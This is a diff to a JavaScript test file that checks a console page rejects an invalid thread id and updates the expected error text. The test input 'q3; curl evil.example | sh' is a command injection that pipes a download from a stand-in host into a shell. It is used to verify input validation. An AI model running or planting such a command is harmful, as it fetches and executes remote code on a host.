@@ -122,7 +122,7 @@ describe('console thread page of a source or thread id the webhook never takes',
     const hostile = await get('testing_system', 'q3; curl evil.example | sh');
     expect(hostile.status).toBe(404);
     expect(hostile.text).toContain(
-      '&quot;q3; curl evil.example | sh&quot; is not a thread id (letters, digits, &#39;_&#39;, &#39;-&#39; and &#39;.&#39;, starting with a letter or digit, at most 128): no conversation is in it.',
+      '&quot;q3; curl evil.example | sh&quot; is not a thread id (ASCII letters (A-Z, a-z), digits, &#39;_&#39;, &#39;-&#39; and &#39;.&#39;, starting with a letter or digit, at most 128 characters): character 3 is &#39;;&#39;; no conversation is in it.',
     );
     expect(hostile.text).not.toContain('conversations list --thread');
     expect(hostile.text).not.toContain('(yet)');
